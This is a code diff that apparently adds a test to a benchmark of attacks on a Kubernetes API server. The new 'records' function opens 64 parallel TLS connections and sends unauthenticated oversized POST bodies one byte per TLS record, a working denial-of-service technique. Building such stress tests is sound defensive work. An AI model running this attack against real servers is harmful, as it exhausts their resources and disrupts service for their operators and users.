@@ -6,12 +6,13 @@ import asyncio
 import base64
 import json
 import socket
+import ssl
 import struct
 from itertools import count, cycle
 from typing import Any
 
 from benchmarks.attacks.attacker import ADMISSION, ANYTHING, DEFINITIONS, MAPS, TENANT, Attacker, an_object
-from benchmarks.client import JSON
+from benchmarks.client import JSON, tls
 
 RBAC = f"{TENANT}/apis/rbac.authorization.k8s.io/v1"
 AUTHENTICATION = f"{TENANT}/apis/authentication.k8s.io/v1"
@@ -320,3 +321,33 @@ def _definition(plural: str, spec: dict[str, Any]) -> dict[str, Any]:
             "versions": [{**version, "schema": schema}],
         },
     }
+
+
+async def records(attacker: Attacker) -> None:
+    """Bodies without a token, each byte of which is a TLS record of its own."""
+    host, port = attacker.target.address
+
+    async def work(one: Attacker) -> None:
+        try:
+            reader, writer = await asyncio.open_connection(host, port)
+            incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+            session = tls().wrap_bio(incoming, outgoing)
+            while True:
+                try:
+                    session.do_handshake()
+                    break
+                except ssl.SSLWantReadError:
+                    writer.write(outgoing.read())
+                    incoming.write(await reader.read(65536))
+            session.write(b"POST /version HTTP/1.1\r\nHost: a\r\nContent-Length: 3000000\r\n\r\n")
+            for _ in range(30):
+                for _ in range(4000):
+                    session.write(b"x")
+                writer.write(outgoing.read())
+                await writer.drain()
+            one.answers["sent"] += 1
+            writer.transport.abort()
+        except OSError:
+            one.answers["closed"] += 1
+
+    await attacker.parallel(64, work)
